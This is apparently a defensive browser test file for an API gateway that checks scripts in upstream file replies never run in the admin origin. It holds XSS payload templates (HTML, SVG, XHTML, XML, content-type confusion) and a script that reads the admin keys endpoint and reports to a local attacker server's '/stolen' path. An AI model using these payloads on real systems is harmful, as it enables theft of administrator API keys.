import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { openPage, startBrowser, type WatchedPage } from '../support/browser.ts';
import { type RunningGateway, startGateway } from '../support/gateway.ts';
import { type MockUpstream, startMockUpstream } from '@dragoman/testing/upstreams';

/** Browsers send `sec-fetch-dest` to this machine's names only, so replies must be harmless without it, too. */
const OTHER_NAME = 'gateway.test';

/** Attacks come from this origin, and what they find out goes there. */
class Attacker {
  readonly told: string[] = [];
  page = '';
  url = '';
  readonly #server: Server = createServer((request, response) => {
    const { pathname } = new URL(request.url ?? '/', 'http://attacker');
    if (pathname === '/page') response.setHeader('content-type', 'text/html').end(this.page);
    else {
      if (pathname !== '/favicon.ico') this.told.push(pathname);
      response.setHeader('access-control-allow-origin', '*').end();
    }
  });

  async listen(): Promise<void> {
    await new Promise<void>((resolve) => this.#server.listen(0, '127.0.0.1', resolve));
    this.url = `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  close(): void {
    this.#server.closeAllConnections();
    this.#server.close();
  }
}

const attacker = new Attacker();
let upstream: MockUpstream;
let browser: Browser;
let watched: WatchedPage;
let page: Page;
beforeAll(async () => {
  await attacker.listen();
  upstream = await startMockUpstream();
  browser = await startBrowser([`--host-resolver-rules=MAP ${OTHER_NAME} 127.0.0.1`]);
});
afterAll(async () => {
  await browser.close();
  await upstream.close();
  attacker.close();
});
beforeEach(async () => {
  attacker.told.length = 0;
  watched = await openPage(browser);
  page = watched.page;
});
afterEach(() => watched.close());

/** Says that it runs, reads the keys of whoever is signed in, and tells what it found. */
const script = (): string => `
  fetch('${attacker.url}/ran', { mode: 'no-cors' });
  fetch('/admin/api/v1/keys').then((r) => r.ok && fetch('${attacker.url}/stolen', { mode: 'no-cors' }));`;

const KINDS: Readonly<Record<string, { readonly type: string; readonly body: (code: string) => string }>> = {
  html: { type: 'text/html', body: (code) => `<!doctype html><script>${code}</script>` },
  svg: {
    type: 'image/svg+xml',
    body: (code) => `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${code}]]></script></svg>`,
  },
  xhtml: {
    type: 'application/xhtml+xml',
    body: (code) =>
      `<html xmlns="http://www.w3.org/1999/xhtml"><body><script><![CDATA[${code}]]></script></body></html>`,
  },
  xml: {
    type: 'text/xml',
    body: (code) =>
      `<?xml version="1.0"?><x><script xmlns="http://www.w3.org/1999/xhtml"><![CDATA[${code}]]></script></x>`,
  },
  missing: { type: '', body: (code) => `<!doctype html><script>${code}</script>` },
  two: { type: 'text/plain, text/html', body: (code) => `<!doctype html><script>${code}</script>` },
  javascript: { type: 'text/javascript', body: (code) => code },
  'javascript-without-type': { type: '', body: (code) => code },
};

const pathOf = (kind: string): string => `/v1/files/${kind}/content`;

function serveAll(): void {
  for (const [kind, { type, body }] of Object.entries(KINDS)) {
    const headers = { ...(type && { 'content-type': type }) };
    upstream.handle(pathOf(kind), () => ({ rawBody: body(script()), headers }));
  }
}

/** All that a page of another site can make a browser load. */
const elements = (url: string): string => `
  <iframe src="${url}"></iframe>
  <script src="${url}"></script>
  <script type="module" src="${url}"></script>
  <img src="${url}">
  <object data="${url}"></object>
  <embed src="${url}">
  <link rel="stylesheet" href="${url}">
  <video src="${url}"></video>
  <a href="${url}">click</a>`;

/** Until what a page has loaded had its time to run. */
async function settle(): Promise<void> {
  await page.evaluate('new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))');
}

async function openAttack(body: string): Promise<void> {
  attacker.page = `<!doctype html><body>${body}</body>`;
  await page.goto(`${attacker.url}/page`);
  await settle();
}

async function attack(urls: readonly string[]): Promise<void> {
  for (const url of urls) {
    await openAttack(elements(url));
    // What comes as a download is no page that one could go to.
    const gone = page.waitForURL(url).catch(() => undefined);
    await page.getByText('click').click();
    await gone;
    await page.goto(url).catch(() => undefined);
  }
  await openAttack('');
}

async function start(auth: boolean): Promise<RunningGateway> {
  const gateway = await startGateway({
    auth,
    upstreams: [
      { id: 'up', provider: 'openai', options: { baseUrl: `${upstream.url}/v1`, apiKey: 'sk-up' } },
    ],
  });
  // An attacker who knows a way to bring a key along is the worst case.
  const authorization = `Bearer ${await gateway.createKey({ name: 'all', relay: 'all' })}`;
  if (auth)
    await page.route('**/v1/files/**', (route) =>
      route.continue({ headers: { ...route.request().headers(), authorization } }),
    );
  return gateway;
}

/** The cookie of a signed-in administrator, under the name of the gateway that is attacked. */
async function signIn(gateway: RunningGateway, origin: string): Promise<void> {
  await page.goto(gateway.gateway.signInLink().replace(gateway.url, origin));
  await page.getByRole('heading', { name: 'Overview' }).waitFor();
}

describe('a script in the reply of an upstream', () => {
  it('would be noticed if it ran', async () => {
    await openAttack(`<script>${script()}</script>`);
    expect(attacker.told).toContain('/ran');
  });

  describe.each([
    ['of an open gateway', false, undefined],
    ['of a gateway under the name of a network', true, OTHER_NAME],
  ])('%s', (_, auth, name) => {
    let gateway: RunningGateway;
    let origin: string;
    beforeEach(async () => {
      serveAll();
      gateway = await start(auth);
      origin = name === undefined ? gateway.url : gateway.url.replace('127.0.0.1', name);
      await signIn(gateway, origin);
    });
    afterEach(async () => {
      upstream.reset();
      await gateway.close();
    });

    it('never runs, whatever its type and however it is loaded', async () => {
      await attack(Object.keys(KINDS).map((kind) => origin + pathOf(kind)));
      expect(attacker.told).toEqual([]);
      const files = upstream.calls.map(({ path }) => path).filter((path) => path.startsWith('/v1/files/'));
      const asked = new Set(files);
      // Only there are replies handed out, to be harmless by themselves.
      expect(asked.size).toBe(name === undefined ? 0 : Object.keys(KINDS).length);
    });

    it('is no script of the console, whose policy allows those of its own origin', async () => {
      const path = pathOf('javascript');
      await page.evaluate(`
        const script = document.createElement('script');
        script.src = '${path}';
        new Promise((done) => {
          script.onload = script.onerror = done;
          document.body.append(script);
        });
      `);
      await page.evaluate(`
        navigator.serviceWorker?.register('${path}').catch(() => {});
        const worker = new Worker('${path}');
        new Promise((done) => (worker.onerror = done));
      `);
      await settle();
      expect(attacker.told).toEqual([]);
    });
  });
});
